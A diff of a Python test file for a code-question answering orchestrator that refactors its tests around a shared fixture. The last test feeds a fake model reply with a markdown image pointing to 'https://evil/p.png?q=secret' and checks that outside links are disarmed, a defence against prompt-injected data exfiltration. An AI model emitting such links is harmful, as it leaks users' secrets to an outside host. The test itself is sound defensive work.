@@ -12,18 +12,12 @@ from cgrag.type.v1 import evidence_pb2, question_pb2
 
 from tests.fakes.anthropic_replies import Failure, Message, Reply, error_event, stalled_after
 from tests.fakes.anthropic_server import AnthropicServer
-from tests.fakes.orchestrating import kinds, orchestrating, text_of
+from tests.fakes.orchestrating import Orchestrating, asking, kinds, text_of
 from tests.fakes.peers import FakeRetriever, source
 
 ASKING = Message('<gaps><gap symbol="charge" path="shop/payment.py">how?</gap></gaps>')
 WHOLE = Message("`checkout()` calls `charge()` [E1], and `charge()` calls `authorise()` [E2].")
 HALF = "Half a sentence that is long enough to be streamed at once, so it is. " * 5
-
-
-def asking(model: AnthropicServer, retriever: FakeRetriever | None = None, **settings: Any) -> Any:
-    """Run an orchestrator whose engine asks this model."""
-    wanted: dict[str, Any] = {"engine": "anthropic", "model_url": model.base_url, "api_key": "sk", "model_attempts": 1}
-    return orchestrating(retriever, **(wanted | settings))
 
 
 def asked_for(suite: Any) -> list[evidence_pb2.Gap]:
@@ -55,42 +49,38 @@ def warnings_of(events: list[pb.AnswerEvent]) -> list[str]:
     ],
 )
 async def test_gaps_reach_the_retriever_in_the_form_of_the_contract(
-    model: AnthropicServer, section: str, gap: dict[str, Any]
+    model: AnthropicServer, section: str, gap: dict[str, Any], modelled: Orchestrating
 ) -> None:
     """Whatever form a model writes, the retriever is asked for exactly that."""
     model.enqueue(Message(f"It is so [E1].\n<gaps>\n{section}\n</gaps>"), WHOLE)
-    async with asking(model) as suite:
-        await suite.answer()
+    await modelled.answer()
 
-    assert [evidence_pb2.Gap(gap_id="g1-1", **gap)] == asked_for(suite)
+    assert [evidence_pb2.Gap(gap_id="g1-1", **gap)] == asked_for(modelled)
 
 
-async def test_a_tag_that_is_quoted_is_no_section(model: AnthropicServer) -> None:
+async def test_a_tag_that_is_quoted_is_no_section(model: AnthropicServer, modelled: Orchestrating) -> None:
     """An answer about code that has such tags is whole, and nothing is fetched."""
     quoted = "It draws `<Gap size={4} />` [E1]:\n\n```tsx\n<gaps>\n  <Gap size={4} />\n</gaps>\n```\n\nThat is all."
     model.enqueue(Message(pieces=[*quoted]))
-    async with asking(model) as suite:
-        answer = await suite.answer()
+    answer = await modelled.answer()
 
     assert answer.text == quoted.replace("E1", "1")
     assert not answer.gaps
 
 
-async def test_what_cannot_be_read_is_a_warning(model: AnthropicServer) -> None:
+async def test_what_cannot_be_read_is_a_warning(model: AnthropicServer, modelled: Orchestrating) -> None:
     """Something that was asked for is not lost without a word."""
     model.enqueue(Message("It is so [E1].\n<gaps>\n<gap colour='red'/>\n</gaps>"))
-    async with asking(model) as suite:
-        events = await suite.ask()
+    events = await modelled.ask()
 
     (told,) = [each.warning for each in events if each.HasField("warning")]
     assert (told.code, "colour='red'" in told.message) == ("gap_unread", True)
 
 
-async def test_a_pass_that_only_asks_is_a_pass(model: AnthropicServer) -> None:
+async def test_a_pass_that_only_asks_is_a_pass(model: AnthropicServer, modelled: Orchestrating) -> None:
     """It is no fault, shows no text, and the next pass answers from what it asked for."""
     model.enqueue(ASKING, WHOLE)
-    async with asking(model) as suite:
-        events = await suite.ask()
+    events = await modelled.ask()
 
     answer = events[-1].completed.answer
     assert text_of(events, 1) == ""
@@ -105,13 +95,12 @@ async def test_a_pass_that_only_asks_is_a_pass(model: AnthropicServer) -> None:
     assert "charge" in question_of(model, 1)
 
 
-async def test_what_a_model_does_not_need_makes_room(model: AnthropicServer) -> None:
+async def test_what_a_model_does_not_need_makes_room(model: AnthropicServer, modelled: Orchestrating) -> None:
     """The next pass is not shown it, and has its tokens for what was asked for; a replay does the same."""
     asks = '<gaps>\n<drop labels="E1"/>\n<gap symbol="charge" path="shop/payment.py"/>\n</gaps>'
     model.enqueue(Message(asks), Message("It calls `authorise()` [E1]."))
-    async with asking(model) as suite:
-        events = await suite.ask()
-        replayed = await suite.replay(events[0].answer_id)
+    events = await modelled.ask()
+    replayed = await modelled.replay(events[0].answer_id)
 
     first, second = (json.dumps(each.json) for each in model.requests)
     assert 'name=\\"checkout\\"' in first
@@ -120,7 +109,7 @@ async def test_what_a_model_does_not_need_makes_room(model: AnthropicServer) -> 
     assert "have no room any more" not in second
     assert "You dropped, and can ask for again: shop/payment.py:1-4" in question_of(model, 1)
     assert "You dropped" not in question_of(model, 0)
-    assert not any(each.known_evidence_ids for each in suite.retriever.asked(retriever_pb2.ResolveGapsRequest))
+    assert not any(each.known_evidence_ids for each in modelled.retriever.asked(retriever_pb2.ResolveGapsRequest))
     assert [each.title for each in events[-1].completed.answer.citations] == ["charge (shop/payment.py)"]
     assert not replayed.differences
 
@@ -145,20 +134,21 @@ async def test_lines_that_a_model_does_not_need_make_room(model: AnthropicServer
     assert not replayed.differences
 
 
-async def test_further_definitions_are_named_until_a_model_has_asked(model: AnthropicServer) -> None:
+async def test_further_definitions_are_named_until_a_model_has_asked(
+    model: AnthropicServer, modelled: Orchestrating
+) -> None:
     """The next pass has their room, and neither a session nor a repeated question brings them again."""
     model.enqueue(ASKING, WHOLE, WHOLE)
-    async with asking(model) as suite:
-        first = await suite.ask()
-        await suite.ask(session_id=first[0].started.session_id)
-        replayed = await suite.replay(first[0].answer_id)
+    first = await modelled.ask()
+    await modelled.ask(session_id=first[0].started.session_id)
+    replayed = await modelled.replay(first[0].answer_id)
 
     shown = ["refund 40" in json.dumps(each.json) for each in model.requests]
     assert shown[:2] == [True, False]
     label = '<E1 at=\\"shop/payment.py:1-4\\" name=\\"checkout\\">'
     assert all(label in json.dumps(each.json) for each in model.requests)  # labels are equal, for the endpoint's cache
     assert "no room" not in question_of(model, 0)
-    once, again, _played = suite.retriever.asked(retriever_pb2.RetrieveRequest)
+    once, again, _played = modelled.retriever.asked(retriever_pb2.RetrieveRequest)
     assert "outline" not in again.known_evidence_ids
     assert (once.with_outline, again.with_outline) == (True, False)
     assert not replayed.differences
@@ -172,23 +162,23 @@ async def test_further_definitions_are_named_until_a_model_has_asked(model: Anth
         pb.AskOptions(switches=question_pb2.Switches(without_gap_resolution=True)),
     ],
 )
-async def test_nothing_further_is_named_to_who_may_not_ask(model: AnthropicServer, options: pb.AskOptions) -> None:
+async def test_nothing_further_is_named_to_who_may_not_ask(
+    model: AnthropicServer, options: pb.AskOptions, modelled: Orchestrating
+) -> None:
     """All tokens of the first evidence are for what answers."""
     model.enqueue(WHOLE)
-    async with asking(model) as suite:
-        await suite.ask(options=options)
+    await modelled.ask(options=options)
 
-    (order,) = suite.retriever.asked(retriever_pb2.RetrieveRequest)
+    (order,) = modelled.retriever.asked(retriever_pb2.RetrieveRequest)
     assert (order.with_outline, order.budget.initial_tokens) == (False, 2800)
 
 
 async def test_a_pass_that_only_asks_for_what_is_not_there_is_followed_by_one_that_answers(
-    model: AnthropicServer,
+    model: AnthropicServer, modelled: Orchestrating
 ) -> None:
     """Nothing new came: the model is asked once more, knows that nothing will come, and its text is the answer."""
     model.enqueue(Message("<gaps><gap symbol='Bank.vanish'/></gaps>"), WHOLE)
-    async with asking(model) as suite:
-        events = await suite.ask()
+    events = await modelled.ask()
 
     answer = events[-1].completed.answer
     assert answer.text == text_of(events, 2)
@@ -214,12 +204,13 @@ async def test_a_last_pass_that_only_asks_leaves_an_answer(model: AnthropicServe
 @pytest.mark.parametrize(
     "reply", [Failure(529), error_event("Half a "), Message("")], ids=["status", "broken", "empty"]
 )
-async def test_a_later_pass_that_fails_leaves_the_answer_before_it(model: AnthropicServer, reply: Reply) -> None:
+async def test_a_later_pass_that_fails_leaves_the_answer_before_it(
+    model: AnthropicServer, reply: Reply, modelled: Orchestrating
+) -> None:
     """It is paid for: its text and citations are the answer, marked degraded, and nothing else is asked."""
     model.enqueue(Message("It is so [E1].\n<gaps><gap symbol='charge'/></gaps>"), reply)
-    async with asking(model) as suite:
-        events = await suite.ask()
-        replayed = await suite.replay(events[0].answer_id)
+    events = await modelled.ask()
+    replayed = await modelled.replay(events[0].answer_id)
 
     answer = events[-1].completed.answer
     assert answer.text == text_of(events, answer.metadata.passes) == "It is so [1]."
@@ -317,13 +308,12 @@ async def test_a_follow_up_is_told_what_it_refers_to(model: AnthropicServer) -> 
     assert "Known not to be found: Bank.vanish" in asked
 
 
-async def test_links_and_images_that_lead_outside_are_disarmed(model: AnthropicServer) -> None:
+async def test_links_and_images_that_lead_outside_are_disarmed(model: AnthropicServer, modelled: Orchestrating) -> None:
     """A model that obeys what it read cannot make a reader load or follow anything."""
     model.enqueue(
         Message(pieces=[*"So [E1]. ![x](https://evil/p.png?q=secret) and [y](https://evil), [z](shop/a.md)."])
     )
-    async with asking(model) as suite:
-        answer = await suite.answer()
+    answer = await modelled.answer()
 
     assert answer.text == "So [1]. ![x] (`https://evil/p.png?q=secret`) and [y] (`https://evil`), [z](shop/a.md)."
 
